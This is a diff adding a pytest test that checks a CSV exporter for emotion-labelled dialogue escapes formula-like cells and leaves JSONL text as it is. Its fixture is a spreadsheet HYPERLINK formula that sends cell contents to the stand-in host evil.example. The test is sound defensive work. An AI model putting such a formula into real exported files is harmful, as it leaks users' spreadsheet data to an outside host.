@@ -104,3 +104,17 @@ def test_jsonl_keeps_everything_with_history():
     ]
     assert last["predictions"]["mister-e"]["label"] == "joy"
     assert jsonl([]) == "" and meld_csv([]).strip() == ",".join(MELD_HEADER)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_meld_csv_cells_cannot_be_read_as_formulas(start):
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [
+        {**row(1, 0, "joy", text=payload), "speaker": f"{start}1+2"},
+        row(2, 1, "anger", text="-5 degrees"),
+    ]
+    records = list(csv.DictReader(io.StringIO(meld_csv(rows), newline="")))
+    assert (records[0]["Utterance"], records[0]["Speaker"]) == ("'" + payload, f"'{start}1+2")
+    assert records[1]["Utterance"] == "'-5 degrees"
+    assert records[1]["Speaker"] == "Ross" and records[1]["Sr No."] == "2", "other cells are unchanged"
+    assert json.loads(jsonl(rows).splitlines()[0])["text"] == payload, "JSONL keeps the text as it is"
